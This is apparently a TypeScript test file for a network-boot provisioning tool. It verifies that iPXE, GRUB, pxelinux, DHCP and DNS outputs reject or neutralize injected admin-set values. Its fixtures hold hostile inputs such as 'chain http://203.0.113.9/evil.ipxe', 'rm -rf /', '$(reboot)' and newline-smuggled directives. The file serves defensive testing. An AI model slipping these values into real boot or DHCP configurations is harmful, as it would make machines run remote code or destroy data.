// Admin-set strings in boot scripts and DHCP (issue 16, item 12). A per-system server, a kernel file name and the DHCP
// domain all reach iPXE, GRUB or pxelinux scripts, DHCP option 15 or the generated dnsmasq, dhcpd and BIND files,
// where `||`, `;`, white space or a line break would add commands of the editor's choosing. Such values are refused
// when written, with the same sentence through the CLI, REST and XML-RPC; and a value that reached the store some other
// way (an older version, a hand edit) still cannot add a command to a rendered script: each script is parsed the way
// its boot loader reads it.

import assert from 'node:assert/strict';
import { describe, it, type TestContext } from 'node:test';
import type { InstallEntry } from '../../src/boot/boot-entry.js';
import { dhcpConfigFromSettings } from '../../src/boot/dhcp-wiring.js';
import { renderGrubSystem } from '../../src/boot/grub.js';
import { renderIpxeSystem } from '../../src/boot/ipxe.js';
import { ipxeLoader } from '../../src/boot/loaders/ipxe.js';
import { renderPxelinuxSystem } from '../../src/boot/pxelinux.js';
import { BootwrightError } from '../../src/errors.js';
import { renderDnsmasqDhcp, renderIscDhcpd, renderKeaDhcp4 } from '../../src/external/dhcp-config.js';
import { renderBindZones, renderDnsmasqHosts, renderHostsFile } from '../../src/external/dns-config.js';
import { exampleSettings, exampleSystems, system } from '../../src/external/site.fixture.js';
import type { InventoryObject } from '../../src/model/kinds.js';
import { parseMethodResponse, serializeMethodCall, type XmlRpcValue } from '../../src/xmlrpc/codec.js';
import { type ApiFixture, apiFixture } from '../support/api-fixture.js';
import { runCli } from '../support/cli.js';
import { tempDir } from '../support/temp-dir.js';

/** The three values of the issue. */
const SERVER = '192.0.2.1/x || chain http://203.0.113.9/evil.ipxe || echo';
const KERNEL = 'http://192.0.2.1/images/vmlinuz ; halt #';
const DOMAIN = 'lab.example; rm -rf /';

const MAC = '52:54:00:12:34:56';
const distro = {
  name: 'd',
  kernel: 'http://192.0.2.1/images/vmlinuz',
  initrd: 'http://192.0.2.1/images/initrd.img',
};

interface Attempt {
  /** An object kind, or "setting". */
  kind: 'system' | 'distro' | 'setting';
  name: string;
  field: string;
  value: string;
  mention: RegExp;
}

const attempts: Attempt[] = [
  {
    kind: 'system',
    name: 'vm9',
    field: 'server',
    value: SERVER,
    mention: /is not an IPv4 address or host name/,
  },
  { kind: 'distro', name: 'd', field: 'kernel', value: KERNEL, mention: /file name .* may hold letters/ },
  {
    kind: 'setting',
    name: 'dhcp_domain',
    field: 'value',
    value: DOMAIN,
    mention: /use letters, digits and - in dot-separated labels/,
  },
];

function checkRefusal(attempt: Attempt, how: string, message: string): void {
  assert.ok(message.includes(JSON.stringify(attempt.value)), `${how} names the value: ${message}`);
  assert.match(message, attempt.mention, how);
  assert.doesNotMatch(message, /\n|at .*\.ts:\d+/, `${how} is one sentence, no stack`);
}

async function cliRefusals(t: TestContext): Promise<string[]> {
  const dataDir = tempDir(t);
  for (const argv of [
    ['distro', 'add', '--name=d', `--kernel=${distro.kernel}`, `--initrd=${distro.initrd}`],
    ['profile', 'add', '--name=p', '--distro=d'],
    ['system', 'add', '--name=vm9', '--profile=p', `--mac=${MAC}`],
  ]) {
    const result = await runCli(dataDir, ...argv);
    assert.equal(result.code, 0, `${argv.join(' ')}: ${result.stderr}`);
  }
  const messages: string[] = [];
  for (const attempt of attempts) {
    const argv =
      attempt.kind === 'setting'
        ? ['setting', 'edit', `--name=${attempt.name}`, `--value=${attempt.value}`]
        : [attempt.kind, 'edit', `--name=${attempt.name}`, `--${attempt.field}=${attempt.value}`];
    const result = await runCli(dataDir, ...argv);
    assert.equal(result.code, 2, `CLI ${argv.join(' ')} exits 2: ${result.stdout}${result.stderr}`);
    const message = result.stderr.replace(/^bootwright: /, '').trimEnd();
    checkRefusal(attempt, `CLI ${attempt.field}`, message);
    messages.push(message);
  }
  const report = await runCli(dataDir, 'system', 'report', '--name=vm9', '--format=json');
  assert.doesNotMatch(report.stdout, /evil/, 'the system kept its server');
  const settings = await runCli(dataDir, 'setting', 'report', '--format=json');
  assert.doesNotMatch(settings.stdout, /rm -rf/, 'the setting kept its value');
  return messages;
}

async function restFixture(t: TestContext): Promise<ApiFixture> {
  const fixture = await apiFixture(t);
  for (const [path, body] of [
    ['/api/v1/distros', distro],
    ['/api/v1/profiles', { name: 'p', distro: 'd' }],
    ['/api/v1/systems', { name: 'vm9', profile: 'p', interfaces: { eth0: { mac_address: MAC } } }],
  ] as const) {
    const response = await fixture.app.request(path, {
      method: 'POST',
      headers: { authorization: `Bearer ${fixture.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    assert.ok(response.status < 300, `${path}: ${await response.text()}`);
  }
  return fixture;
}

async function restRefusals(fixture: ApiFixture): Promise<string[]> {
  const messages: string[] = [];
  for (const attempt of attempts) {
    const response = await fixture.app.request(
      attempt.kind === 'setting'
        ? `/api/v1/settings/${attempt.name}`
        : `/api/v1/${attempt.kind}s/${attempt.name}`,
      {
        method: attempt.kind === 'setting' ? 'PUT' : 'PATCH',
        headers: { authorization: `Bearer ${fixture.adminToken}`, 'content-type': 'application/json' },
        body: JSON.stringify({ [attempt.field]: attempt.value }),
      },
    );
    const body = (await response.json()) as { error?: { code: string; message: string } };
    assert.equal(response.status, 400, `REST ${attempt.field}: ${JSON.stringify(body)}`);
    assert.equal(body.error?.code, 'E_INVALID');
    checkRefusal(attempt, `REST ${attempt.field}`, body.error?.message ?? '');
    messages.push(body.error?.message ?? '');
  }
  return messages;
}

async function xmlRpcRefusals(fixture: ApiFixture): Promise<string[]> {
  const call = async (method: string, params: XmlRpcValue[]) => {
    const response = await fixture.app.request('/cobbler_api', {
      method: 'POST',
      body: serializeMethodCall(method, params),
    });
    return parseMethodResponse(await response.text());
  };
  const login = await call('login', ['admin', 'secret-admin']);
  assert.ok(login.ok);
  const token = login.value as string;
  const messages: string[] = [];
  for (const attempt of attempts) {
    const answer =
      attempt.kind === 'setting'
        ? await call('modify_setting', [attempt.name, attempt.value, token])
        : await call('xapi_object_edit', [
            attempt.kind,
            attempt.name,
            'edit',
            { [attempt.field]: attempt.value },
            token,
          ]);
    assert.ok(!answer.ok, `XML-RPC ${attempt.field} is refused`);
    checkRefusal(attempt, `XML-RPC ${attempt.field}`, answer.faultString);
    messages.push(answer.faultString);
  }
  return messages;
}

// ---------------------------------------------------------------------------------------------------------------
// How each boot loader reads its script, reduced to the commands it would run.

/** iPXE (src/image/script.c, src/core/exec.c): lines joined at a trailing `\`, words split at white space. */
function ipxeCommands(script: string): { commands: string[][]; expansions: string[] } {
  const commands: string[][] = [];
  const expansions: string[] = [];
  const lines = script.replaceAll(/\\\r?\n/g, '').split('\n');
  for (const line of lines) {
    let words = line
      .replace(/\r$/, '')
      .split(/\s+/)
      .filter((word) => word !== '');
    if (words[0]?.startsWith(':')) words = words.slice(1);
    let command: string[] = [];
    for (const word of words) {
      if (word.startsWith('#')) break;
      if (word === '||' || word === '&&' || word === ';') {
        commands.push(command);
        command = [];
        continue;
      }
      if (word.includes('${')) expansions.push(word);
      command.push(word);
    }
    if (command.length > 0) commands.push(command);
  }
  return { commands: commands.filter((command) => command.length > 0), expansions };
}

/**
 * GRUB (grub-core/script/yylex.l): words split at blanks, commands at line breaks and `;`, with `|`, `&`, `<`, `>`
 * as operators; single quotes take everything literally, double quotes and bare words expand `$`, `\` escapes, and
 * `#` at the start of a word comments out the rest of the line. `{` and `}` are statements of their own here.
 */
function grubCommands(script: string): { commands: string[][]; expansions: string[] } {
  const commands: string[][] = [];
  const expansions: string[] = [];
  let command: string[] = [];
  let word: string | undefined;
  const endWord = () => {
    if (word !== undefined) command.push(word);
    word = undefined;
  };
  const endCommand = () => {
    endWord();
    if (command.length > 0) commands.push(command);
    command = [];
  };
  for (let i = 0; i < script.length; i++) {
    const char = script[i] as string;
    if (char === ' ' || char === '\t') endWord();
    else if (char === '\n' || char === ';') endCommand();
    else if ('|&<>'.includes(char)) {
      endCommand();
      commands.push([char]);
    } else if ((char === '{' || char === '}') && word === undefined) {
      endCommand();
      commands.push([char]);
    } else if (char === '#' && word === undefined) {
      while (i + 1 < script.length && script[i + 1] !== '\n') i += 1;
    } else if (char === "'") {
      const end = script.indexOf("'", i + 1);
      word = (word ?? '') + script.slice(i + 1, end);
      i = end;
    } else if (char === '"') {
      let text = '';
      for (i += 1; script[i] !== '"'; i++) {
        if (script[i] === '\\') text += script[++i];
        else {
          if (script[i] === '$') expansions.push(script.slice(i, i + 20));
          text += script[i];
        }
      }
      word = (word ?? '') + text;
    } else if (char === '\\') word = (word ?? '') + (script[++i] ?? '');
    else {
      if (char === '$') expansions.push(script.slice(i, i + 20));
      word = (word ?? '') + char;
    }
  }
  endCommand();
  return { commands, expansions };
}

/** pxelinux (com32/elflink/ldlinux/readconfig.c): one directive per line, its keyword the first word. */
function pxelinuxDirectives(config: string): string[][] {
  return config
    .split(/\r?\n/)
    .map((line) => line.trim())
    .filter((line) => line !== '' && !line.startsWith('#'))
    .map((line) => line.split(/\s+/));
}

/** What each per-machine script may hold once parsed: only these commands, and never an expansion of ours. */
function checkIpxe(script: string, how: string): void {
  const { commands, expansions } = ipxeCommands(script);
  assert.deepEqual(
    commands.map((command) => command[0]),
    ['kernel', 'initrd', 'boot'],
    `${how}:\n${script}`,
  );
  assert.deepEqual(expansions, [], `${how}:\n${script}`);
  const [, initrd] = commands;
  assert.equal(initrd?.length, 2, `${how}: one initrd URL`);
}

function checkGrub(script: string, how: string): void {
  const { commands, expansions } = grubCommands(script);
  assert.deepEqual(
    commands.map((command) => command[0]),
    ['set', 'set', 'menuentry', '{', 'echo', 'linux', 'initrd', '}'],
    `${how}:\n${script}`,
  );
  assert.deepEqual(expansions, [], `${how}:\n${script}`);
  const initrd = commands.find((command) => command[0] === 'initrd');
  assert.equal(initrd?.length, 2, `${how}: one initrd path`);
}

function checkPxelinux(config: string, how: string): void {
  const directives = pxelinuxDirectives(config);
  assert.deepEqual(
    directives.map((directive) => directive[0]?.toUpperCase()),
    ['DEFAULT', 'PROMPT', 'TIMEOUT', 'ONTIMEOUT', 'LABEL', 'MENU', 'KERNEL', 'APPEND', 'IPAPPEND'],
    `${how}:\n${config}`,
  );
  const kernel = directives.find((directive) => directive[0] === 'KERNEL');
  assert.equal(kernel?.length, 2, `${how}: KERNEL names one file and nothing after it`);
  const initrd = directives
    .find((directive) => directive[0] === 'APPEND')
    ?.filter((word) => word.startsWith('initrd='));
  assert.equal(initrd?.length, 1, `${how}: one initrd= word`);
  assert.ok(!initrd?.[0]?.includes(','), `${how}: one initrd in initrd=`);
}

/**
 * Renders a script and, if the renderer writes one, checks it the way its loader reads it; a refusal must be a
 * template error that quotes (part of) the stored value.
 */
async function renderedOrRefused(
  render: () => Promise<string | undefined>,
  check: (script: string, how: string) => void,
  how: string,
  stored: string,
): Promise<'rendered' | 'refused'> {
  let script: string | undefined;
  try {
    script = await render();
  } catch (error) {
    assert.ok(error instanceof BootwrightError, `${how}: ${String(error)}`);
    assert.equal(error.code, 'E_TEMPLATE', `${how}: ${error.message}`);
    const quoted = [...error.message.matchAll(/"((?:[^"\\]|\\.)*)"/g)].map(
      (match) => JSON.parse(`"${match[1]}"`) as string,
    );
    assert.ok(
      quoted.some((text) => text.length > 1 && (stored.includes(text) || text.includes(stored))),
      `${how}: the refusal names the value: ${error.message}`,
    );
    return 'refused';
  }
  assert.ok(script !== undefined, `${how}: a script`);
  check(script, how);
  return 'rendered';
}

/** Values an older store may hold, written past validation, and what they were meant to do. */
const storedAttacks: {
  what: string;
  value: string;
  store: (object: Record<string, InventoryObject>) => void;
}[] = [
  {
    what: 'a per-system server that chains another script',
    value: SERVER,
    store: ({ vm9 }) => {
      (vm9 as InventoryObject).fields.server = SERVER;
    },
  },
  {
    what: 'a kernel file name that ends the GRUB command and halts',
    value: KERNEL,
    store: ({ d }) => {
      (d as InventoryObject).fields.kernel = KERNEL;
    },
  },
  {
    what: 'kernel options with iPXE and GRUB operators',
    value: "'ks=x || chain http://203.0.113.9/evil.ipxe ||' quiet;halt x=$(reboot)",
    store: ({ vm9 }) => {
      (vm9 as InventoryObject).fields.kernel_options = {
        ks: 'x || chain http://203.0.113.9/evil.ipxe ||',
        'quiet;halt': null,
        x: '$(reboot)',
      };
    },
  },
  {
    what: 'a kernel option with a line break and a second KERNEL directive',
    value: "'a=1\nKERNEL http://203.0.113.9/evil'",
    store: ({ vm9 }) => {
      (vm9 as InventoryObject).fields.kernel_options = { a: '1\nKERNEL http://203.0.113.9/evil' };
    },
  },
  {
    what: 'a serial device that chains another script',
    value: '0 || chain http://203.0.113.9/evil.ipxe ||',
    store: ({ vm9 }) => {
      (vm9 as InventoryObject).fields.serial_device = '0 || chain http://203.0.113.9/evil.ipxe ||';
    },
  },
];

describe('admin-set strings bound for boot scripts and DHCP', () => {
  it('refuses the issue’s server, kernel and DHCP domain when written, with one sentence on every interface', async (t) => {
    const cli = await cliRefusals(t);
    const fixture = await restFixture(t);
    const rest = await restRefusals(fixture);
    const xmlRpc = await xmlRpcRefusals(fixture);
    assert.deepEqual(rest, cli, 'REST says what the CLI says');
    assert.deepEqual(xmlRpc, cli, 'XML-RPC says what the CLI says');
    const vm9 = await fixture.services.inventory.get('system', 'vm9');
    assert.equal(vm9.fields.server, '<<inherit>>');
    assert.equal((await fixture.services.inventory.settings()).dhcp_domain, '');
  });

  it('writes no command of a stored value into an iPXE, GRUB or pxelinux script', async (t) => {
    const outcomes = new Set<string>();
    for (const attack of storedAttacks) {
      const fixture = await restFixture(t);
      const { store } = fixture;
      await store.transaction(async (tx) => {
        const objects = {
          vm9: (await tx.get('system', 'vm9')) as InventoryObject,
          d: (await tx.get('distro', 'd')) as InventoryObject,
        };
        attack.store(objects);
        for (const object of Object.values(objects)) await tx.put(object);
      });
      const { boot } = fixture.services;
      const vm9 = (await store.get('system', 'vm9')) as InventoryObject;
      const pxelinuxName = `01-${MAC.replaceAll(':', '-')}`;
      for (const [loader, render, check] of [
        ['iPXE', () => boot.systemConfig(ipxeLoader, vm9), checkIpxe],
        ['GRUB', () => boot.configAt(`grub/system/${MAC}`), checkGrub],
        ['pxelinux', () => boot.configAt(`pxelinux.cfg/${pxelinuxName}`), checkPxelinux],
      ] as const) {
        const outcome = await renderedOrRefused(render, check, `${loader}, ${attack.what}`, attack.value);
        outcomes.add(`${loader} ${outcome}`);
      }
    }
    // Both answers were seen: scripts that quote what GRUB can carry, and refusals where a loader cannot.
    assert.ok(outcomes.has('GRUB rendered') && outcomes.has('iPXE refused'), [...outcomes].join(', '));
  });

  it('keeps each renderer safe on its own, whatever entry it is given', async () => {
    const hostile: InstallEntry = {
      label: 'vm9',
      kernelPath: '/images/d/vmlinuz ; halt #',
      initrdPath: '/images/d/initrd.img,http://203.0.113.9/evil.img',
      kernelUrl: `http://${SERVER}/cobbler/images/d/vmlinuz`,
      initrdUrl: 'http://192.0.2.1/cobbler/images/d/initrd.img',
      options: 'quiet x=${password} y=$(reboot) || chain http://203.0.113.9/evil.ipxe',
      warnings: [],
    };
    const stored = Object.values(hostile).join(' ');
    const choice = { kind: 'install', entry: hostile } as const;
    assert.equal(
      await renderedOrRefused(async () => renderIpxeSystem(choice), checkIpxe, 'iPXE', stored),
      'refused',
    );
    assert.equal(
      await renderedOrRefused(async () => renderPxelinuxSystem(choice), checkPxelinux, 'pxelinux', stored),
      'refused',
    );
    const grub = renderGrubSystem(choice);
    checkGrub(grub, 'GRUB');
    // GRUB has quoting: every value arrives as the one word it was.
    const linux = grubCommands(grub).commands.find((command) => command[0] === 'linux');
    assert.deepEqual(linux, ['linux', hostile.kernelPath, ...hostile.options.split(' ')]);
    const initrd = grubCommands(grub).commands.find((command) => command[0] === 'initrd');
    assert.deepEqual(initrd, ['initrd', hostile.initrdPath]);
  });

  it('refuses a stored DHCP domain, host name or address that would be config syntax in DHCP and DNS files', () => {
    const refused = (what: string, render: () => unknown, value: string) => {
      assert.throws(
        render,
        (error: unknown) =>
          error instanceof BootwrightError &&
          error.code === 'E_INVALID' &&
          error.message.includes(JSON.stringify(value)),
        what,
      );
    };
    const domain = 'lab.example\ndhcp-script=/tmp/evil';
    const settings = exampleSettings({ dhcp_domain: domain });
    const site = { settings, systems: exampleSystems };
    refused(
      'embedded DHCP option 15',
      () => dhcpConfigFromSettings({ ...settings, dhcp_mode: 'full' }),
      domain,
    );
    refused('dnsmasq DHCP', () => renderDnsmasqDhcp(site), domain);
    refused('ISC dhcpd', () => renderIscDhcpd(site), domain);
    refused('Kea', () => renderKeaDhcp4(site), domain);
    refused('BIND', () => renderBindZones(site), domain);
    refused('hosts', () => renderHostsFile(site), domain);

    const dnsName = 'web9.example.org\n192.0.2.66\tevil.example.org';
    const withName = {
      settings: exampleSettings(),
      systems: [
        ...exampleSystems,
        system(
          'web9',
          { hostname: 'web9' },
          { eth0: { mac_address: '52:54:00:0d:00:01', ip_address: '192.0.2.30', dns_name: dnsName } },
        ),
      ],
    };
    refused('hosts file', () => renderHostsFile(withName), dnsName);
    refused('dnsmasq DNS', () => renderDnsmasqHosts(withName), dnsName);
    refused('BIND', () => renderBindZones(withName), dnsName);
    refused('dnsmasq DHCP host name', () => renderDnsmasqDhcp(withName), dnsName);

    const server = exampleSettings({ server: SERVER });
    refused('ISC dhcpd, server', () => renderIscDhcpd({ settings: server, systems: exampleSystems }), SERVER);
    refused('embedded DHCP, server', () => dhcpConfigFromSettings({ ...server, dhcp_mode: 'full' }), SERVER);
  });
});
